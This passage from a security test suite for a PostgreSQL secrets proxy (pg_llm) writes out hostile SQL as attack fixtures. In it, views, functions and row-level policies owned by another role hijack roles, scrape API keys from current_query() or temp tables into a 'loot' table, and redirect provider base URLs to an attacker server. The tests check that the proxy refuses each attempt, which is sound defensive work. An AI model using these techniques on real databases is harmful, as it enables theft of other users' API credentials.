    await direct.query(`CREATE ROLE ${group} NOLOGIN; GRANT ${group} TO trust_user, password_user; CREATE SCHEMA ${group} AUTHORIZATION ${group}; GRANT USAGE ON SCHEMA ${group} TO PUBLIC`);
    afterThisTest(() => direct.query(`DROP SCHEMA ${group} CASCADE; DROP ROLE ${group}`).then(() => undefined));
    await other.query(`SET ROLE ${group};
                       CREATE VIEW ${group}.docs AS SELECT 'doc'::text AS body WHERE (ai.openai_embed('m', 'the group view asks') IS NULL) IS NOT NULL;
                       GRANT SELECT ON ${group}.docs TO PUBLIC; RESET ROLE;
                       CREATE TABLE shared.notes (body text); GRANT SELECT ON shared.notes TO PUBLIC;
                       CREATE FUNCTION shared.switch() RETURNS int LANGUAGE plpgsql AS $$
                       BEGIN
                         PERFORM pg_catalog.set_config('role', '${group}', false);
                         PERFORM pg_catalog.set_config('search_path', '${group}, shared, public', false);
                         CREATE TEMP TABLE notes (body text);
                         INSERT INTO notes VALUES ('the planted row asks');
                         RETURN 1;
                       END $$;
                       CREATE VIEW shared.stats AS SELECT shared.switch() AS n; GRANT SELECT ON shared.stats TO PUBLIC`);
    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'; SET ai.openai_base_url = '${suite.fake.baseUrl}'`);
    await victim.query('SELECT n FROM shared.stats');
    suite.fake.requests.length = 0;
    await expect(victim.query(`SELECT ai.openai_embed('m', body) FROM docs`)).rejects.toMatchObject({ code: '42501', message: expect.stringContaining(`reaches view docs, owned by ${group}`) });
    await expect(victim.query(`SELECT ai.openai_embed('m', body) FROM notes`)).rejects.toMatchObject({ code: '42501', message: expect.stringMatching(/reaches table pg_temp_\d+\.notes, a temporary object/) });
    expect(suite.fake.requests).toEqual([]);
    // Review R5: a role default it made for the victim (ALTER ROLE CURRENT_USER SET role) is not the victim's choice
    // either, in this session or the next. A role the client sets itself it names in pg_llm.trusted_owners.
    await other.query(`CREATE FUNCTION shared.persist() RETURNS int LANGUAGE sql AS $$ ALTER ROLE CURRENT_USER SET role = ${group}; SELECT 1 $$;
                       CREATE VIEW shared.counts2 AS SELECT shared.persist() AS n; GRANT SELECT ON shared.counts2 TO PUBLIC`);
    await victim.query('RESET ROLE; SELECT n FROM shared.counts2; SET ROLE NONE');
    afterThisTest(() => direct.query('ALTER ROLE password_user RESET role').then(() => undefined));
    await victim.query(`SET ROLE ${group}; SET search_path = ${group}, public`);
    await expect(victim.query(`SELECT ai.openai_embed('m', body) FROM docs`)).rejects.toMatchObject({ code: '42501', message: expect.stringContaining(`owned by ${group}`) });
    expect(suite.fake.requests).toEqual([]);
    await victim.query(`SET pg_llm.trusted_owners = '${group}'`);
    await victim.query(`SELECT ai.openai_embed('m', body) FROM docs`);
    expect(suite.fake.requests.flatMap((request) => request.body.input)).toContain('the group view asks');
    // Its temporary table is the group's: gone with the session's, before the group goes.
    await victim.query('DISCARD ALL');
  });

  // Review31: registered for the very server the victim named, the key went nowhere else, but stayed in a model any
  // role may call, so the view's owner asked that server on the victim's account for as long as it liked.
  it("written out in the victim's statement is not registered into a model by another role's view, even for the victim's server", async () => {
    const { direct, other, victim } = await sharedSchema();
    const stolen = `substring(current_query() from 'held by pg_llm proxy [0-9a-f]{32}')`;
    // Past the proxy, which refuses a view computing an api_key from constants.
    await direct.query(`SET ROLE trust_user; CREATE VIEW shared.docs AS SELECT 'hello'::text AS body
                         WHERE (pg_llm_add_model(false, 'openai', 'borrowed', ${stolen}, '{"base_url": "${suite.fake.baseUrl}", "model_name": "m"}') IS NULL) IS NOT NULL;
                        GRANT SELECT ON shared.docs TO PUBLIC; RESET ROLE`);
    // Trusted, so that the rule at stake here refuses, not that of statements reaching another role's code.
    await victim.query(`SET pg_llm.trusted_owners = 'trust_user'`);
    const attempt = victim.query(`SELECT ai.openai_embed('m', body, api_key => '${VICTIM_KEY}', client_config => '{"base_url": "${suite.fake.baseUrl}"}') FROM shared.docs`);
    await expect(attempt).rejects.toMatchObject({ code: '42501', message: 'the api_key argument of pg_llm_add_model is a secret this session wrote out in a call of another function' });
    suite.fake.requests.length = 0;
    await other.query(`SELECT pg_llm_chat('borrowed', 'on the victim''s account')`).catch(() => undefined);
    expect(authorizations()).not.toContain(`Bearer ${VICTIM_KEY}`);
    expect((await other.query(`SELECT count(*)::int AS n FROM _pg_llm_catalog.pg_llm_models WHERE instance_name = 'borrowed'`)).rows).toEqual([{ n: 0 }]);
  });

  // Review I: openai_client_config echoed the secrets it was given into its result, which reaches the server (the
  // proxy's results table, a bind parameter its log keeps) and the code of other roles the session then runs.
  it("given to openai_client_config is in its result only by reference, which opens only in a client_config", async () => {
    // PostgreSQL's default log_parameter_max_length logs every bind parameter of a logged statement.
    const { direct, other, victim, attacker } = await sharedSchema([`log_statement = 'all'`]);
    await other.query(`CREATE TABLE shared.loot (v text); GRANT INSERT ON shared.loot TO PUBLIC;
                       CREATE FUNCTION shared.grab() RETURNS int LANGUAGE plpgsql AS $$
                       BEGIN
                         IF to_regclass('pg_temp.pg_llm_call_results') IS NOT NULL THEN
                           INSERT INTO shared.loot SELECT value::text FROM pg_temp.pg_llm_call_results;
                         END IF;
                         RETURN 1;
                       END $$;
                       CREATE VIEW shared.stats AS SELECT shared.grab() AS n; GRANT SELECT ON shared.stats TO PUBLIC`);
    const header = unique('sk-gateway');
    const password = unique('pw');
    const config = `ai.openai_client_config(base_url => 'http://svc:${password}@127.0.0.1:${new URL(suite.fake.baseUrl).port}/v1', default_headers => '{"x-gateway-key": "${header}"}')`;
    // Trusted, or its statements would not run at all (held-secret-reach.ts): what it could read is at stake here.
    await victim.query(`SET pg_llm.trusted_owners = 'trust_user'`);
    await victim.query('BEGIN');
    const { rows } = await victim.query(`SELECT ${config} AS c, n FROM shared.stats`);
    expect(rows[0].c).toEqual({ base_url: expect.stringMatching(/^held by pg_llm proxy /), default_headers: expect.stringMatching(/^held by pg_llm proxy /) });
    await victim.query('SELECT n FROM shared.stats');
    await victim.query('COMMIT');
    const loot = (await direct.query('SELECT string_agg(v, \' \') AS v FROM shared.loot')).rows[0].v as string;
    expect(loot).toContain('held by pg_llm proxy ');
    // Given to an OpenAI call of the session, written out or bound, the config's secrets go out as written.
    const usable = (await victim.query(`SELECT ai.openai_client_config(base_url => '${suite.fake.baseUrl}', default_headers => '{"x-gateway-key": "${header}"}') AS c`)).rows[0].c;
    expect(usable).toEqual({ base_url: suite.fake.baseUrl, default_headers: expect.stringMatching(/^held by pg_llm proxy /) });
    suite.fake.requests.length = 0;
    await victim.query(`SELECT ai.openai_embed('m', 'x', api_key => 'sk-unused-0123456789', client_config => '${JSON.stringify(usable)}')`);
    await victim.query(`SELECT ai.openai_embed('m', 'x', api_key => 'sk-unused-0123456789', client_config => $1)`, [usable]);
    expect(suite.fake.requests.map((request) => request.headers['x-gateway-key'])).toEqual([header, header]);
    // Another role's view building a config of its own around a reference it took sends nothing to its server.
    const taken = usable.default_headers as string;
    // Past the proxy, which refuses a view computing a client_config from constants.
    await direct.query(`SET ROLE trust_user; CREATE VIEW shared.relay AS SELECT 'hello'::text AS body WHERE (ai.openai_embed('m', 'x', api_key => 'sk-other-0123456789',
                          client_config => jsonb_build_object('base_url', '${attacker.baseUrl}', 'default_headers', '${taken}'::text)) IS NULL) IS NOT NULL;
                        GRANT SELECT ON shared.relay TO PUBLIC; RESET ROLE`);
    await expect(victim.query(`SELECT ai.openai_embed('m', body, client_config => $1) FROM shared.relay`, [usable])).rejects.toMatchObject({
      code: '42501',
      message: expect.stringContaining('a secret this session handed the proxy goes only to a server the session named itself'),
    });
    expect(attacker.requests).toEqual([]);
    for (const secret of [header, password]) {
      expect(loot).not.toContain(secret);
      expect(serverLog()).not.toContain(secret);
    }
  });
  // Review J1: a key bound as a parameter reached pg_temp.pg_llm_collected_calls as it was during the collect pass,
  // where code of another role that the statement runs (a view's function, a row-level policy's) read it, and kept
  // it in a sequence, which the pass's rollback leaves as it is; PostgreSQL logged it among the bind parameters.
  it("bound as a parameter reaches neither the collect pass's table, which another role's view or policy reads, nor the server log", async () => {
    // PostgreSQL's default log_parameter_max_length logs every bind parameter of a logged statement.
    const { other, victim } = await sharedSchema([`log_statement = 'all'`]);
    await other.query(`CREATE SEQUENCE shared.seen MINVALUE 0 START 0; CREATE SEQUENCE shared.found MINVALUE 0 START 0;
                       GRANT SELECT, UPDATE ON shared.seen, shared.found TO PUBLIC;
                       CREATE FUNCTION shared.grab() RETURNS int LANGUAGE plpgsql AS $$
                       DECLARE seen int; found int;
                       BEGIN
                         IF to_regclass('pg_temp.pg_llm_collected_calls') IS NULL THEN RETURN 1; END IF;
                         SELECT count(*), coalesce(max(length(substring(c::text from 'sk-bound-[0-9a-f]+|x-bound-[0-9a-f]+'))), 0)
                           INTO seen, found FROM pg_temp.pg_llm_collected_calls c;
                         IF seen > 0 THEN PERFORM setval('shared.seen', seen); END IF;
                         IF found > 0 THEN PERFORM setval('shared.found', found); END IF;
                         RETURN 1;
                       END $$;
                       CREATE VIEW shared.helpful AS SELECT shared.grab() AS g; GRANT SELECT ON shared.helpful TO PUBLIC;
                       CREATE TABLE shared.pub (id int); INSERT INTO shared.pub VALUES (1), (2); GRANT SELECT ON shared.pub TO PUBLIC;
                       ALTER TABLE shared.pub ENABLE ROW LEVEL SECURITY; CREATE POLICY everyone ON shared.pub USING (shared.grab() > 0)`);
    const key = unique('sk-bound');
    const header = unique('x-bound');
    // Trusted, or its statements would not run at all (held-secret-reach.ts): what it could read is at stake here.
    await victim.query(`SET pg_llm.trusted_owners = 'trust_user'`);
    suite.fake.requests.length = 0;
    const config = `client_config => '{"base_url": "${suite.fake.baseUrl}"}'`;
    // The view is read once the first row's call is collected; the policy, for each row the calls are collected for.
    const { rows } = await victim.query(
      `SELECT ai.openai_embed('m', 'row ' || i, api_key => $1, extra_headers => $2, ${config}) IS NOT NULL AS embedded, x.g
         FROM generate_series(1, 2) i, LATERAL (SELECT CASE WHEN i > 1 THEN (SELECT g FROM shared.helpful) END AS g) x`,
      [key, JSON.stringify({ 'x-gateway-key': header })],
    );
    expect(rows).toEqual([{ embedded: true, g: null }, { embedded: true, g: 1 }]);
    await victim.query(`SELECT id, ai.openai_embed('m', 'row ' || id, api_key => $1::text, ${config}) IS NOT NULL AS embedded FROM shared.pub`, [key]);
    // Review K1: one key bound for the calls of two functions went to the server as it was, where the policy read it.
    const chat = `ai.openai_chat_complete('m', '[{"role": "user", "content": "hi"}]', api_key => $1, ${config})`;
    await victim.query(`SELECT id, ${chat} IS NOT NULL AS answered, ai.openai_embed('m', 'row ' || id, api_key => $1, ${config}) IS NOT NULL FROM shared.pub`, [key]);
    // A secret computed from a parameter would be too: refused before the server gets it.
    await expect(victim.query(`SELECT ai.openai_embed('m', 'x', extra_headers => jsonb_build_object('x-gateway-key', $1::text), ${config}) FROM shared.pub`, [header])).rejects.toMatchObject({
      code: '0A000',
      message: 'the extra_headers argument of ai.openai_embed is computed from parameters',
    });
    // Review R1: so is one passed to the call through a column of a subquery, which the server would have in the clear.
    await expect(victim.query(`SELECT ai.openai_embed('m', 'x', api_key => s.k, ${config}) IS NOT NULL, (SELECT g FROM shared.helpful) FROM (SELECT $1::text AS k) s`, [key])).rejects.toMatchObject({
      code: '0A000',
      message: "the api_key argument of ai.openai_embed reads a bound parameter through a column the statement defines (a subquery's, CTE's, VALUES list's, FROM function's, or the row it writes)",
    });
    const sequence = async (name: string) => Number((await other.query(`SELECT last_value FROM shared.${name}`)).rows[0].last_value);
    expect(await sequence('seen')).toBeGreaterThan(0);
    expect(await sequence('found')).toBe(0);
    // The calls got what the client bound.
    expect([...new Set(authorizations())]).toEqual([`Bearer ${key}`]);
    expect(suite.fake.requests[0]!.headers['x-gateway-key']).toBe(header);
    const log = serverLog();
    expect(log).toContain("$1 = 'held by pg_llm proxy ");
    for (const secret of [key, header]) expect(log).not.toContain(secret);
  });

  it('bound as a parameter of a statement whose Close the server skipped after an error is held still', async () => {
    // Review K1: the proxy forgot the statement when it forwarded the Close; the server, skipping it after the error
    // before it, kept the statement, and the key bound to it later went to the server (and its log) as it was.
    const { name, client: direct } = await freshDatabase();
    await direct.query(`ALTER DATABASE ${name} SET log_statement = 'all'`);
    await (await clientOf(suite.proxy, name)).query('CREATE EXTENSION ai');
    const raw = await RawClient.session(suite.proxy.port, { database: name });
    afterThisTest(async () => raw.end());
    const key = unique('sk-closed');
    const sql = `SELECT ai.openai_embed('m', 'x', api_key => $1, client_config => '{"base_url": "${suite.fake.baseUrl}"}') IS NOT NULL AS embedded`;
    await raw.exchange(serialize.parse({ name: 's1', text: sql, types: [] }), serialize.sync());
    const skipped = await raw.exchange(
      serialize.parse({ name: '', text: 'SELECT 1/0', types: [] }),
      serialize.bind({}),
      serialize.execute({}),
      serialize.close({ type: 'S', name: 's1' }),
      serialize.sync(),
    );
    expect(skipped.includes(Buffer.from('division by zero'))).toBe(true);
    suite.fake.requests.length = 0;
    const ran = await raw.exchange(serialize.bind({ statement: 's1', values: [key] }), serialize.execute({}), serialize.sync());
    expect(ran.includes(Buffer.from('SELECT 1'))).toBe(true);
    expect(authorizations()).toEqual([`Bearer ${key}`]);
    expect(serverLog()).not.toContain(key);
    // Closed for good, it is forgotten: the name is the client's to use again.
    await raw.exchange(serialize.close({ type: 'S', name: 's1' }), serialize.parse({ name: 's1', text: 'SELECT $1::text AS plain', types: [] }), serialize.sync());
    const plain = await raw.exchange(serialize.bind({ statement: 's1', values: ['not a secret'] }), serialize.execute({}), serialize.sync());
    expect(plain.includes(Buffer.from('not a secret'))).toBe(true);
  });

  it('bound as a parameter, as text or in binary, is not in the server log, and goes to the server its bound config names', async () => {
    // PostgreSQL's default log_parameter_max_length logs every bind parameter of a logged statement.
    const { victim } = await sharedSchema([`log_statement = 'all'`]);
    const key = unique('sk-logged');
    const header = unique('x-logged');
    const config = JSON.stringify({ base_url: suite.fake.baseUrl, default_headers: { 'x-gateway-key': header } });
    suite.fake.requests.length = 0;
    const sql = `SELECT ai.openai_embed('m', 'x', api_key => $1, client_config => $2) IS NOT NULL AS embedded`;
    await victim.query(sql, [key, config]);
    // A Buffer is bound in binary format: jsonb's is a version byte, then its text.
    await victim.query(sql, [Buffer.from(key), Buffer.concat([Buffer.of(1), Buffer.from(config)])]);
    expect(authorizations()).toEqual([`Bearer ${key}`, `Bearer ${key}`]);
    expect(suite.fake.requests.map((request) => request.headers['x-gateway-key'])).toEqual([header, header]);
    const log = serverLog();
    expect(log).toContain(sql.replace(' AS embedded', ''));
    for (const secret of [key, header]) expect(log).not.toContain(secret);
  });

  // Review R1: with ai on the search_path (or behind the database's name) the call reached the server's stub as
  // written, which refused it, but the server's log, and current_query() for the code the statement ran, kept its key.
  it('in a call written under a name the proxy does not serve is refused before the server gets it', async () => {
    const { victim } = await sharedSchema([`log_statement = 'all'`]);
    const database = (await victim.query('SELECT current_database() AS name')).rows[0].name;
    const key = unique('sk-misnamed');
    await victim.query('SET search_path = ai, public');
    const refused = (name: string) => ({ code: '0A000', message: `${name}(…) is not a call pg_llm proxy serves, and it gives the api_key argument of ai.openai_embed in the clear`, hint: expect.stringContaining('Write ai.openai_embed(…)') });
    await expect(victim.query(`SELECT openai_embed('m', 'x', '${key}')`)).rejects.toMatchObject(refused('openai_embed'));
    await expect(victim.query(`SELECT openai_embed('m', 'x', api_key => $1)`, [key])).rejects.toMatchObject(refused('openai_embed'));
    await expect(victim.query(`SELECT ${database}.ai.openai_embed('m', 'x', '${key}')`)).rejects.toMatchObject(refused(`${database}.ai.openai_embed`));
    // Review R3: with standard_conforming_strings off, 'a\\', ' is one string to the server, and the call after it
    // code; to the proxy's parser, strings only.
    await victim.query('SET standard_conforming_strings = off');
    const hidden = `SELECT 'a\\', ' AS q, ai.openai_embed($$m$$, $$x$$, api_key => $$${key}$$) AS e --'`;
    const ambiguous = { code: '0A000', message: expect.stringContaining('standard_conforming_strings off reads as an escaped quote') };
    await expect(victim.query(hidden)).rejects.toMatchObject(ambiguous);
    await expect(victim.query(`SELECT 'a\\', ' AS q, ai.openai_embed($$m$$, $$x$$, api_key => $1) AS e --'`, [key])).rejects.toMatchObject(ambiguous);
    await victim.query('RESET standard_conforming_strings');
    // Without a secret, the server answers such a call as before.
    await expect(victim.query(`SELECT openai_embed('m', 'x')`)).rejects.toMatchObject({ code: '0A000', message: expect.stringContaining('runs in pg_llm proxy') });
    expect(serverLog()).not.toContain(key);
  });
});

describe("a server a setting names, set by another role's code in the session", () => {
  const VICTIM_KEY = 'sk-victim-0123456789abcdef';
  const refused = (setting: string, argument: string) => ({
    code: '42501',
    message: `the server in ai.${setting} was not set by this session's client: a view or function of another role may have set it`,
    hint: `SET ai.${setting} in the session${argument}; ALTER ROLE … SET counts too.`,
  });

  /** A database, a view of role trust_user's that points pgai's settings at `attacker` when read, and the victim. */
  async function pointingView(options?: string) {
    const { name, client: direct } = await freshDatabase();
    await direct.query(`CREATE SCHEMA shared AUTHORIZATION trust_user; GRANT USAGE ON SCHEMA shared TO PUBLIC`);
    const owner = await clientOf(suite.proxy, name);
    await owner.query('CREATE EXTENSION ai');
    await owner.query('CREATE EXTENSION pg_llm');
    const attacker = await startFakeProvider();
    afterThisTest(() => attacker.close());
    const other = await clientOf(suite.proxy, name, 'trust');
    const root = fakeRoot(attacker);
    const sets = [['openai_base_url', attacker.baseUrl], ['ollama_host', root], ['cohere_base_url', root]].map(([setting, url]) => `set_config('ai.${setting}', '${url}', false) IS NOT NULL`);
    await other.query(`CREATE VIEW shared.prices AS SELECT 42 AS price WHERE ${sets.join(' AND ')}`);
    await other.query('GRANT SELECT ON shared.prices TO PUBLIC');
    const victim = new pg.Client({ ...connection(suite.proxy.port, 'password', name), ...(options && { options }) });
    await victim.connect();
    afterThisTest(() => victim.end());
    suite.fake.requests.length = 0;
    return { name, direct, victim, attacker };
  }

  it('is not used with a key the session bound as a parameter, nor by a keyless API', async () => {
    const { victim, attacker } = await pointingView();
    await victim.query('SELECT price FROM shared.prices');
    await expect(victim.query(`SELECT ai.openai_embed('text-embedding-3-small', $1, api_key => $2)`, ['my private text', VICTIM_KEY])).rejects.toMatchObject(
      refused('openai_base_url', ", or pass client_config's base_url in the call"),
    );
    await expect(victim.query(`SELECT ai.ollama_embed('llama3', 'my private prompt')`)).rejects.toMatchObject(refused('ollama_host', ', or pass host in the call'));
    expect(attacker.requests).toEqual([]);
    // The session's own SET of the setting is its choice, and so is a server its call names.
    await victim.query(`SET ai.ollama_host = '${fakeRoot(suite.fake)}'`);
    await victim.query(`SELECT ai.ollama_embed('llama3', 'mine')`);
    await victim.query(`SELECT ai.openai_embed('m', 'mine', api_key => $1, client_config => $2)`, [VICTIM_KEY, JSON.stringify({ base_url: suite.fake.baseUrl })]);
    // Written without its scheme, as Ollama's clients take a host (review P).
    await victim.query(`SET ai.ollama_host = '${fakeRoot(suite.fake).replace(/^http:\/\//, '')}'`);
    await victim.query(`SELECT ai.ollama_embed('llama3', 'mine')`);
    expect(suite.fake.requests.map((request) => request.path)).toEqual(['/api/embeddings', '/v1/embeddings', '/api/embeddings']);
    expect(attacker.requests).toEqual([]);
  });

  it("is not used with a key in the startup options, nor by llm_rerank's Cohere model", async () => {
    const { victim, attacker } = await pointingView(`-c ai.cohere_api_key=co-victim-0123456789 --ai.ollama-host=${fakeRoot(suite.fake)}`);
    // A server the startup options name is the session's choice, in any spelling the server reads (--ai.ollama-host).
    await victim.query(`SELECT ai.ollama_embed('llama3', 'mine')`);
    expect(suite.fake.requests.map((request) => request.path)).toEqual(['/api/embeddings']);
    await victim.query('SELECT price FROM shared.prices');
    await expect(victim.query(`SELECT index FROM llm_rerank('refund', ARRAY['my private ticket', 'another'], 'cohere:rerank-v3.5')`)).rejects.toMatchObject(refused('cohere_base_url', ''));
    await expect(victim.query(`SELECT ai.ollama_embed('llama3', 'my private prompt')`)).rejects.toMatchObject({ code: '42501' });
    expect(attacker.requests).toEqual([]);
  });

  it("is used when it is the role's or the database's default", async () => {
    const { name, direct } = await pointingView();
    await direct.query(`ALTER ROLE password_user IN DATABASE ${name} SET ai.ollama_host = '${fakeRoot(suite.fake)}'`);
    const victim = await clientOf(suite.proxy, name, 'password');
    await victim.query(`SELECT ai.ollama_embed('llama3', 'mine')`);
    expect(suite.fake.requests.map((request) => request.path)).toEqual(['/api/embeddings']);
    await victim.query('SELECT price FROM shared.prices');
    await expect(victim.query(`SELECT ai.ollama_embed('llama3', 'my private prompt')`)).rejects.toMatchObject({ code: '42501' });
  });
});
